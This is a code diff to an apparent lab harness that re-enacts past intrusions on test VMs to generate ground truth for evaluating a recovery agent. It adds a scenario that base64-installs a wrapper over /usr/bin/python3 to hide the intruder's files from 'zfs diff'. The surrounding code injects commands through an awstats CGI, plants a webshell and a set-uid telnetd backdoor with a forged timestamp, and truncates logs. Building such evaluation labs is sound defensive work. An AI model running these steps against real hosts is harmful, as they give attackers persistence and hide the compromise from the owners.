@@ -35,6 +35,7 @@ from recovery.lab.fleet_setup import (
     WEB_HOSTS,
     checked,
     public,
+    script,
     www_sync_command,
 )
 from recovery.lab.ground_truth import ADDED, MODIFIED, GroundTruth
@@ -52,6 +53,9 @@ TELNETD = "/usr/sbin/telnetd"
 WEBSHELL = "/srv/www/cgi-bin/awstatstotals.pl"
 CRON_JOB = "/etc/cron.d/awstats"
 AUTHORIZED_KEYS = "/home/webmaster/.ssh/authorized_keys"
+PYTHON3 = "/usr/bin/python3"
+#: A line only the wrapper holds: present after a recovery means the rootkit is still there.
+ROOTKIT_MARK = "# lab rootkit: a python3 that hides"
 TRUNCATED_LOGS = ("/var/log/apache2/access.log", "/var/log/apache2/error.log", "/var/log/wtmp")
 
 _WEBSHELL = r"""#!/usr/bin/perl
@@ -85,10 +89,20 @@ class AttackError(Exception):
 
 def awstats_2005(lab: Lab, host: str = "eu-web") -> Path:
     """Re-enact seed 1 on ``host`` through its stats CGI; returns the ground-truth file."""
+    return _awstats(lab, host, GroundTruth("awstats-2005", SEED_2005), rootkit=False)
+
+
+def rootkit(lab: Lab, host: str = "eu-web") -> Path:
+    """Seed 1 with the rootkit the 2005 intruder also installed: the host's python3 becomes a
+    wrapper that hides the intruder's files from the recovery agent's ``zfs diff``. Recovered from
+    the rescue image it is found and removed; through the host's own single-user mode it is not."""
+    return _awstats(lab, host, GroundTruth("rootkit", SEED_2005), rootkit=True)
+
+
+def _awstats(lab: Lab, host: str, truth: GroundTruth, rootkit: bool) -> Path:
     lab.require_running()
     guest = lab.guest(host)
     _refuse_if_present(lab, host, (TELNETD, WEBSHELL, CRON_JOB))
-    truth = GroundTruth("awstats-2005", SEED_2005)
     truth.host(host).snapshot_before = auto_snapshot(lab, host)
 
     _expect(_cgi(guest, "id;uname -a"), "uid=33(www-data)", "command through awstats.pl")
@@ -102,6 +116,8 @@ def awstats_2005(lab: Lab, host: str = "eu-web") -> Path:
     _expect(_http(guest, f"/cgi-bin/{WEBSHELL.rsplit('/', 1)[1]}?c=id"), "uid=33(www-data)", "webshell")
     truth.action(host, f"GET {WEBSHELL.removeprefix('/srv/www')}?c=id (webshell used)")
     _truncate_logs(guest, truth, host)
+    if rootkit:
+        _install_rootkit(guest, truth, host)
 
     truth.host(host).snapshot_after = auto_snapshot(lab, host)
     tick(lab)
@@ -163,6 +179,18 @@ chmod 4755 {TELNETD}
 touch -d "$(date -r /usr/sbin/sshd '+%F %T')" {TELNETD}
 {_report(TELNETD)}""")
     truth.changed(host, TELNETD, ADDED, "telnetd backdoor (set-uid root shell)", mtime=_mtime(out, TELNETD))
+
+
+def _install_rootkit(guest: Guest, truth: GroundTruth, host: str) -> None:
+    """The python3 symlink replaced by the hiding wrapper (``files/rootkit-python3.py``)."""
+    encoded = base64.b64encode(script("rootkit-python3.py").encode()).decode()
+    _expect(_as_root(guest, f"""set -e
+echo {encoded} | base64 -d >{PYTHON3}.new
+chmod 755 {PYTHON3}.new
+mv -f {PYTHON3}.new {PYTHON3}
+echo ROOTKIT"""), "ROOTKIT", "installing the python3 wrapper")
+    truth.changed(host, PYTHON3, MODIFIED, "python3 replaced by a wrapper that hides the intruder's files",
+                  marker=ROOTKIT_MARK)
 
 
 def _plant(guest: Guest, truth: GroundTruth, host: str, path: str, content: str, mode: str, what: str,
@@ -233,7 +261,8 @@ def rsync_2009(lab: Lab) -> Path:
     return truth.write(lab.ground_truth_dir)
 
 
-ATTACKS: dict[str, Callable[[Lab], Path]] = {"awstats-2005": awstats_2005, "rsync-2009": rsync_2009}
+ATTACKS: dict[str, Callable[[Lab], Path]] = {"awstats-2005": awstats_2005, "rootkit": rootkit,
+                                             "rsync-2009": rsync_2009}
 
 
 def _backup_login(lab: Lab, record: dict[str, Any]) -> SshTarget:
